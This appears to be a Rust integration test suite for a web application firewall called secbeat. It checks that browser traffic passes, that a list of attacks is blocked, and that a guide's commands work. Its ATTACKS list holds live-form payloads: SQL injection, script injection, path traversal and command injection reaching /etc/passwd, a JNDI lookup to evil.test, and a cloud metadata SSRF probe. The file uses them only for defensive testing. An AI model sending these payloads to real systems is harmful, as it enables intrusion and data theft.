//! One command protects a real site: pages pass, attacks do not, and the guide's commands work as they are written.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use secbeat_tests::netns::Namespace;
use secbeat_tests::node::shell;
use secbeat_tests::setup::{copy_folder, free_address};
use secbeat_tests::{Node, Origin, Setup, eventually, programs};
use std::fs;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use tempfile::TempDir;

/// What curl is told, before the address. `$U` is the site.
const ATTACKS: &[(&str, &str)] = &[
    ("plain", r#"-G "$U/search" --data-urlencode "q=1' OR '1'='1""#),
    ("%20", r#""$U/search?q=1%20union%20select%20password%20from%20users""#),
    ("+", r#""$U/search?q=1+union+select+password+from+users""#),
    ("doubly encoded", r#""$U/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E""#),
    ("raw", r#"-g "$U/search?q=<script>alert(1)</script>""#),
    (
        "JSON",
        r#""$U/api" -H "Content-Type: application/json" -d '{"a":[{"b":"1 UNION SELECT password FROM users"}]}'"#,
    ),
    (
        "JSON, escaped",
        r#""$U/api" -H "Content-Type: application/json" -d '{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}'"#,
    ),
    ("urlencoded", r#""$U/form" -d "name=x&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E""#),
    ("multipart", r#""$U/form" --form-string "comment=<script>alert(1)</script>""#),
    ("multipart, file name", r#""$U/form" -F "file=@/dev/null;filename=../../etc/passwd""#),
    ("cookie", r#""$U/" -b "id=1%27%20OR%20%271%27=%271""#),
    ("header", r#""$U/" -H 'X-Api-Version: ${jndi:ldap://evil.test/a}'"#),
    ("user agent", r#""$U/" -A "sqlmap/1.7.2#stable (https://sqlmap.org)""#),
    ("path", r#"--path-as-is "$U/..%2f..%2fetc/passwd""#),
    ("path, plain", r#"--path-as-is "$U/static/../../../../etc/passwd""#),
    ("command", r#""$U/ping?host=127.0.0.1%3Bcat%20/etc/passwd""#),
    ("metadata service", r#""$U/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F""#),
];

#[test]
fn a_page_passes_and_every_form_of_an_attack_is_stopped() {
    let origin = Origin::answering("HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\na page\n");
    let node = Setup::before(&origin).tls().start();
    let curl = |what: &str| {
        let line = format!(
            "U=https://{}; curl -sk -o answer -w '%{{http_code}} %{{ssl_verify_result}}' {what} 2>&1",
            node.address()
        );
        shell(node.setup.dir.path(), &line)
    };
    assert_eq!(curl("\"$U/\""), (true, "200 18".to_owned()));
    assert_eq!(fs::read_to_string(node.setup.path("answer")).unwrap(), "a page\n");
    let before = origin.requests().len();
    for (name, attack) in ATTACKS {
        let (_, answer) = curl(attack);
        assert!(answer.starts_with("403 "), "{name}: {answer}");
        let page = fs::read_to_string(node.setup.path("answer")).unwrap();
        assert!(page.starts_with("403 Forbidden\n"), "{name}: {page}");
        assert!(page.contains("Its id: "), "{name}: {page}");
    }
    assert_eq!(origin.requests().len(), before, "an attack reached the backend");
    let attacks = node.events("attack");
    assert_eq!(attacks.len(), ATTACKS.len());
    for event in attacks {
        assert!(event["rule_id"].is_string() && event["attack_type"].is_string(), "{event}");
    }
}

const CHROME: &str = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\r\nsec-ch-ua: \"Google Chrome\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"\r\nsec-ch-ua-mobile: ?0\r\nsec-ch-ua-platform: \"Windows\"\r\nUpgrade-Insecure-Requests: 1\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7\r\nSec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-User: ?1\r\nSec-Fetch-Dest: document\r\nAccept-Encoding: gzip, deflate, br, zstd\r\nAccept-Language: en-GB,en;q=0.9,de-DE;q=0.8\r\nCookie: _ga=GA1.2.1843267890.1700000000; _gid=GA1.2.55; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk; theme=dark\r\nReferer: https://www.google.com/\r\n";
const FIREFOX: &str = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: de,en-US;q=0.7,en;q=0.3\r\nAccept-Encoding: gzip, deflate, br, zstd\r\nDNT: 1\r\nSec-GPC: 1\r\nUpgrade-Insecure-Requests: 1\r\nSec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: none\r\nPriority: u=0, i\r\nCookie: cookieconsent_status=dismiss; csrftoken=Zx81kA+/=; cart=%7B%22items%22%3A%5B1%2C2%5D%7D\r\n";
const SAFARI: &str = "User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1\r\nAccept: image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5\r\nAccept-Language: fr-FR,fr;q=0.9\r\nAccept-Encoding: gzip, deflate, br\r\nReferer: https://site.test/a?q=un+deux&page=2#top\r\nCookie: a=1; b=2; c=3\r\n";

const PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/search?q=update+settings",
    "/search?q=select+a+union+in+europe",
    "/search?q=rock+%26+roll+and+more",
    "/search?q=O%27Reilly",
    "/search?q=%C3%BCber+stra%C3%9Fe",
    "/search?q=1+%2B+1+%3D+2",
    "/a/b/c.css?v=1.2.3",
    "/img/logo@2x.png",
    "/de/produkte/kaffee-tassen,4711.html",
    "/shop?category=books&sort=price&order=asc&page=2",
    "/login?next=%2Faccount%2Forders",
    "/api/v1/items?ids=1,2,3&fields=id,name",
    "/wiki/C%2B%2B_(programming_language)",
    "/blog/2024/11/23/how-to-drop-a-table-from-the-menu",
];

const FORMS: &[(&str, &str)] = &[
    (
        "application/x-www-form-urlencoded",
        "name=Anna+M%C3%BCller&comment=I%27d+like+to+order+it+%26+pay+later.&agree=on",
    ),
    (
        "application/x-www-form-urlencoded",
        "title=Union+select+committee&text=Please+insert+coins+into+the+machine%3B+then+wait.",
    ),
    ("application/json", r#"{"query":"query { user(id: 4) { name } }","variables":{"a":[1,2,{"b":null}]}}"#),
    (
        "application/json; charset=utf-8",
        r#"{"text":"It's 5 o'clock, isn't it? Tea > coffee (R&D says so).","tags":["<b>","a/b"],"n":1e3}"#,
    ),
    (
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nHolidays '24 \u{2013} sun & sea\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"IMG 0001 (1).jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{ff}\u{d8}JFIF\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n",
    ),
];

#[test]
fn fifty_ordinary_requests_of_browsers_pass() {
    let origin = Origin::echo();
    let node = Node::before(&origin);
    let mut client = node.client();
    let mut count = 0;
    for browser in [CHROME, FIREFOX, SAFARI] {
        let head = |line: &str| format!("{line} HTTP/1.1\r\nHost: site.test\r\n{browser}");
        for page in PAGES {
            let answer = client.ask(format!("{}\r\n", head(&format!("GET {page}"))));
            assert_eq!(answer.status, 200, "{page} {browser}: {}", node.log());
            assert_eq!(origin.last().target(), *page);
            count += 1;
        }
        for (kind, form) in FORMS {
            let fields = format!(
                "Origin: https://site.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n",
                form.len()
            );
            let answer = client.ask(format!("{}{fields}\r\n{form}", head("POST /form")));
            assert_eq!(answer.status, 200, "{form} {browser}: {}", node.log());
            assert_eq!(origin.last().message.text(), *form);
            count += 1;
        }
    }
    assert!(count >= 50, "{count}");
    assert!(node.events("attack").is_empty());
}

/// A copy of the folder `mitigation-node/`, as a user has it.
fn folder() -> (TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("mitigation-node");
    copy_folder(&programs::workspace().join("mitigation-node/config"), &folder.join("config"));
    (dir, folder)
}

#[test]
fn the_guides_validate_config_says_that_the_shipped_configuration_is_valid() {
    let (dir, _folder) = folder();
    let program = programs::path("mitigation-node");
    let line = format!("cd mitigation-node && {} --validate-config", program.display());
    let (ok, text) = shell(dir.path(), &line);
    assert!(ok, "{text}");
    assert!(
        text.contains("config/production.toml: valid: mode l7, 0.0.0.0:8443 to 127.0.0.1:8080"),
        "{text}"
    );
}

/// A program that is killed when it is dropped.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn production_toml_starts_without_privileges_a_certificate_or_a_secret() {
    let (_dir, folder) = folder();
    let origin = Origin::echo();
    let (site, api) = (free_address(), free_address());
    let mut child = Command::new(programs::path("mitigation-node"));
    child
        .current_dir(&folder)
        .env("MITIGATION_CONFIG", "config/production.toml")
        .env_remove("SYN_COOKIE_SECRET");
    child.args([
        "--set",
        &format!("server.bind_address={site}"),
        "--set",
        &format!("metrics.bind_address={api}"),
    ]);
    child.args(["--set", &format!("server.backend_address={}", origin.address()), "--stop-with-parent"]);
    let _running = Running(child.stdin(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap());
    let curl = |what: &str| shell(&folder, &format!("curl -sk --retry-connrefused --retry 30 {what}"));
    eventually("the node to be ready", || curl(&format!("http://{api}/readyz")).1.contains("\"ready\""));
    assert_eq!(curl(&format!("-o /dev/null -w '%{{http_code}}' https://{site}/")).1, "200");
    let status = curl(&format!("http://{api}/api/v1/status")).1;
    for degraded in ["syn_proxy.enable", "orchestrator.url", "tls.cert_path"] {
        assert!(status.contains(degraded), "{degraded}: {status}");
    }
    assert!(curl(&format!("http://{api}/metrics")).1.contains("secbeat_degraded{feature=\"syn_proxy\"} 1"));
    let log = fs::read_to_string(folder.join("logs/mitigation.log")).unwrap();
    assert!(log.contains("\"event\":\"started\""), "{log}");
}

/// The guide's calls, word for word, with the status that each answers.
const CALLS: &[(&str, u16)] = &[
    ("curl -X POST http://localhost:9191/api/v1/reload", 200),
    (
        "curl -X POST http://localhost:9191/api/v1/waf/rules \\\n  -H \"Content-Type: application/json\" \\\n  -d @new_rules.json",
        200,
    ),
    ("curl http://localhost:9191/api/v1/events?type=attack", 200),
    (
        "curl -X POST http://localhost:9191/api/v1/block-ip \\\n  -d '{\"ip\": \"192.168.1.100\", \"duration\": 3600}'",
        200,
    ),
    (
        "curl -X POST http://localhost:9191/api/v1/emergency-block \\\n  -d '{\"cidr\": \"192.168.0.0/16\"}'",
        200,
    ),
];

/// The guide's example, with its first rule narrowed as the contract has it.
const NEW_RULES: &str = r#"{"rules":[{"id":"rule_001","name":"Mark","pattern":"(?i)forbidden-fruit","action":"block","severity":"high"}]}"#;

#[test]
fn production_toml_as_it_is_and_the_guides_calls_word_for_word() {
    let Some(namespace) = Namespace::new() else { return };
    let (_dir, folder) = folder();
    let bash = |line: &str| {
        let output = namespace.command("bash").args(["-c", line]).current_dir(&folder).output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let site = namespace.inside(|| Origin::echo_at("127.0.0.1:8080".parse().unwrap()));
    let mut node = namespace.command("env");
    node.args(["-u", "SYN_COOKIE_SECRET", "MITIGATION_CONFIG=config/production.toml"]);
    node.arg(programs::path("mitigation-node")).arg("--stop-with-parent").current_dir(&folder);
    let _node = Running(node.stdin(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap());
    eventually("the node to be ready", || bash("curl -s http://localhost:9191/readyz").contains("\"ready\""));

    assert_eq!(bash("curl -sk -o /dev/null -w '%{http_code}' https://localhost:8443/page"), "200");
    assert_eq!(site.last().target(), "/page");
    fs::write(folder.join("new_rules.json"), NEW_RULES).unwrap();
    for (call, status) in CALLS {
        let quiet = call.replacen("curl ", "curl -s -w '\\n%{http_code}' ", 1);
        let answer = bash(&quiet);
        assert!(answer.ends_with(&format!("\n{status}")), "{call}: {answer}");
    }
    let probe = "curl -sk -o /dev/null -w '%{http_code}' 'https://localhost:8443/?q=forbidden-fruit'";
    assert_eq!(bash(probe), "403", "the rule of the call is in force");
    assert!(bash("curl -s 'http://localhost:9191/api/v1/events?type=attack'").contains("\"rule_001\""));
    let usage = bash("curl -s http://localhost:9191/metrics | grep -E \"(cpu|memory|connections)\"");
    for name in ["secbeat_cpu_usage_percent", "secbeat_memory_usage_bytes", "secbeat_connections_active"] {
        assert!(usage.lines().any(|line| line.starts_with(name)), "{name}: {usage}");
    }
    let blocked = bash("curl -s http://localhost:9191/api/v1/blocked-ips");
    assert!(blocked.contains("192.168.1.100") && blocked.contains("192.168.0.0/16"), "{blocked}");
}
